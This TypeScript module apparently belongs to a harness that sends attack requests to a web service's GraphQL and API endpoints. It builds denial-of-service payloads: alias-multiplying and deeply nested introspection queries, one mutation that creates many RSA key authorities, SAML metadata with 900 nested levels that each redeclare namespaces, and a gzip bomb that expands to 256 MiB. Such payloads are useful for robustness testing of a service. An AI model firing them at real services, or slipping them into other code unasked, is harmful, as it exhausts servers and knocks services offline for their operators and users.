// The requests that attacks consist of.

import { gzipSync } from 'node:zlib';
import type { Sending } from './client.ts';
import type { Sizes } from './sizes.ts';

/** Objects in the account of the attacker. */
export interface AttackedWorld {
  readonly tlsEdge: string;
  /** Path of a SAML module. */
  readonly saml: string;
  readonly rsaAuthority: string;
  /** An ed25519 authority of the other account. */
  readonly otherAuthority: string;
}

/** A request to send. */
export interface AttackRequest extends Sending {
  readonly method: string;
  readonly path: string;
}

/** A GraphQL request. */
export const graphql = (query: string, variables: object = {}): AttackRequest => ({
  method: 'POST',
  path: '/graphql',
  body: JSON.stringify({ query, variables }),
});
/** A PUT of text that is JSON, or looks like JSON. */
export const put = (path: string, body: string): AttackRequest => ({ method: 'PUT', path, body });
/** Creates an array of a given length. */
export const times = <T>(count: number, make: (index: number) => T): T[] =>
  Array.from({ length: count }, (_, i) => make(i));
/** How many pieces of a size fit into the configured share of 1 MiB, leaving some room for the text around them. */
export const filling = ({ bodies }: Sizes, bytesOfEach: number) => Math.floor((bodies * 1_040_000) / bytesOfEach);
/** The body of a policy module with these rules. */
export const policyBody = (rules: string) => `{"inbound":[${rules}]}`;

/** An introspection query whose aliases multiply from level to level. */
export function introspection({ introspectionAliases: n }: Sizes, nonce: number): AttackRequest {
  const fields = (prefix: string, selection: string) => times(n, (i) => `${prefix}${i}:${selection}`).join(' ');
  return graphql(
    `query Q${nonce} {__schema{${fields('a', 'types{...A}')}}} fragment A on __Type{${fields('b', 'fields{...B}')}} ` +
      `fragment B on __Field{type{ofType{${fields('c', 'fields{name}')}}}}`,
  );
}

/** An introspection query that goes from types to their interfaces and back. */
export function nestedIntrospection({ introspectionRounds }: Sizes, nonce: number): AttackRequest {
  let selection = '{name}';
  for (let level = 0; level < introspectionRounds; level += 1) selection = `{possibleTypes{interfaces${selection}}}`;
  return graphql(`query Q${nonce} {__schema{types{interfaces${selection}}}}`);
}

/** An introspection query as tools send it. `nonce` is in its name, so that each query is a different document. */
export function honestIntrospection(nonce: number): AttackRequest {
  const typeRef = times(9, () => '').reduce(
    (inner) => `kind name ofType { ${inner === '' ? 'kind name' : inner} }`,
    '',
  );
  const value = 'name description type { ...TypeRef } defaultValue isDeprecated deprecationReason';
  return graphql(
    `query IntrospectionQuery${nonce} { __schema { description queryType { name kind } mutationType { name kind }
      subscriptionType { name kind } types { ...FullType }
      directives { name description isRepeatable locations args(includeDeprecated: true) { ${value} } } } }
    fragment FullType on __Type { kind name description specifiedByURL isOneOf
      fields(includeDeprecated: true) { name description args(includeDeprecated: true) { ${value} }
        type { ...TypeRef } isDeprecated deprecationReason }
      inputFields(includeDeprecated: true) { ${value} } interfaces { ...TypeRef }
      enumValues(includeDeprecated: true) { name description isDeprecated deprecationReason }
      possibleTypes { ...TypeRef } }
    fragment TypeRef on __Type { ${typeRef} }`,
  );
}

/** The body of a SAML module. */
export function samlBody(metadata: string): string {
  return JSON.stringify({ idp_metadata: metadata });
}

/** One document that requests many RSA keys. */
export function manyKeys(count: number): AttackRequest {
  const create = 'createSshCertificateAuthority(input:{privateKeyType:rsa,keySize:2048}){__typename}';
  return graphql(`mutation{${times(count, (i) => `k${i}:${create}`).join(' ')}}`);
}

/** The body that requests a host certificate from an authority. */
export function certificateRequest(authority: string): string {
  return JSON.stringify({
    ssh_certificate_authority_id: authority,
    public_key: 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEA8FP+pNKj5rD7kA8yjV4re5Sskl/+zOBFXRLVIgE/y',
    principals: ['host.example.com'],
  });
}

const namespace = 'urn:oasis:names:tc:SAML:2.0:metadata';

/** Metadata in which every level declares namespaces again. */
export function nestedNamespaces(): string {
  const declarations = times(14, (i) => `xmlns:n${i}="u:${i}"`).join(' ');
  const open = times(900, () => `<a ${declarations}>`).join('');
  return `<EntityDescriptor xmlns="${namespace}" entityID="https://idp">${open}${'</a>'.repeat(900)}</EntityDescriptor>`;
}

let bomb: Buffer | undefined;
/** 256 MiB of zeros in a quarter of a megabyte. */
export function gzipBomb(): Buffer {
  bomb ??= gzipSync(Buffer.alloc(256 * 2 ** 20), { level: 9 });
  return bomb;
}
